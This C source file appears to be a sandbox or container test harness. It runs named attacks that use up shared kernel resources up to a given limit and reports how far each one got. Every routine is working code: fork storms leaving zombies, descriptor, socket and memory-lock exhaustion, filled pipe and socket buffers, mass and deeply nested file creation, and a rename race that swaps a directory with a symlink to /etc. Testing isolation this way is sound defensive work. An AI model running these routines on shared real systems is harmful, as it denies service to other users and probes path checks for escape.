/* What a task does to use up what it shares with others. Each attack goes on until the kernel says
 * no, says on stdout how far it came and what the answer was, and ends with 0.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static char chunk[65536];

static void told(const char *what, long count) {
    printf("%ld %s: %s\n", count, what, errno ? strerror(errno) : "no end");
    fflush(stdout);
}

/* Children that have ended and are not waited for. */
static void zombies(long limit) {
    long count = 0;
    for (; count < limit; count++) {
        pid_t pid = fork();
        if (pid == 0)
            _exit(0);
        if (pid < 0)
            break;
    }
    told("zombies", count);
}

static void descriptors(long limit) {
    long count = 0;
    while (count < limit && open("/dev/null", O_RDONLY) >= 0)
        count++;
    told("descriptors", count);
}

static void sockets(long limit) {
    long count = 0;
    while (count < limit && socket(AF_INET6, SOCK_DGRAM, 0) >= 0)
        count++;
    told("sockets", count);
}

/* Filled, and read by nobody. */
static void socket_buffers(long limit) {
    long count = 0;
    int pair[2], size = 1 << 20;
    for (; count < limit && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0; count++) {
        setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
        while (send(pair[0], chunk, sizeof chunk, MSG_DONTWAIT) > 0)
            ;
    }
    told("full socket pairs", count);
}

static void pipe_buffers(long limit) {
    long count = 0;
    int pair[2];
    for (; count < limit && pipe2(pair, O_NONBLOCK) == 0; count++) {
        fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
        while (write(pair[1], chunk, sizeof chunk) > 0)
            ;
    }
    told("full pipes", count);
}

static void files(long limit) {
    long count = 0;
    char name[32];
    if (mkdir("/many", 0755) || chdir("/many"))
        return;
    for (; count < limit; count++) {
        snprintf(name, sizeof name, "%ld", count);
        int fd = open(name, O_CREAT | O_WRONLY, 0644);
        if (fd < 0)
            break;
        close(fd);
    }
    told("files", count);
}

/* Deeper than any path is long. */
static void directories(long limit) {
    long count = 0;
    while (count < limit && mkdir("directory", 0755) == 0 && chdir("directory") == 0)
        count++;
    told("directories", count);
}

static void locked(long limit) {
    long count = 0;
    for (; count < limit; count++) {
        void *page = mmap(NULL, sizeof chunk, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED || mlock(page, sizeof chunk))
            break;
    }
    told("locked pieces of memory", count);
}

static void immutable(long limit) {
    long count = 0;
    for (; count < limit; count++) {
        int fd = open("/immutable", O_CREAT | O_RDWR, 0644), flags = FS_IMMUTABLE_FL;
        if (fd < 0 || ioctl(fd, FS_IOC_SETFLAGS, &flags))
            break;
    }
    told("immutable files", count);
}

/* Files and a directory change places with each other, and with links that lead out, until killed.
 */
static void storm(long limit) {
    mkdir("/storm", 0755);
    if (chdir("/storm") || mkdir("a", 0755) || symlink("/../../../../../../../../etc", "b"))
        return;
    close(open("a/shadow", O_CREAT | O_WRONLY, 0644));
    for (long count = 0; count < limit; count++) {
        if (renameat2(AT_FDCWD, "a", AT_FDCWD, "b", RENAME_EXCHANGE))
            return told("renames", count);
        if (count == 1000)
            told("renames", count);
    }
}

static const struct {
    const char *name;
    void (*run)(long limit);
} attacks[] = {
    {"zombies", zombies},           {"descriptors", descriptors},
    {"sockets", sockets},           {"socket-buffers", socket_buffers},
    {"pipe-buffers", pipe_buffers}, {"files", files},
    {"directories", directories},   {"locked", locked},
    {"immutable", immutable},       {"storm", storm},
};

int main(int argc, char **argv) {
    for (size_t i = 0; argc == 3 && i < sizeof attacks / sizeof *attacks; i++)
        if (!strcmp(attacks[i].name, argv[1])) {
            errno = 0;
            attacks[i].run(atol(argv[2]));
            return 0;
        }
    fprintf(stderr, "usage: attack NAME LIMIT\n");
    return 2;
}
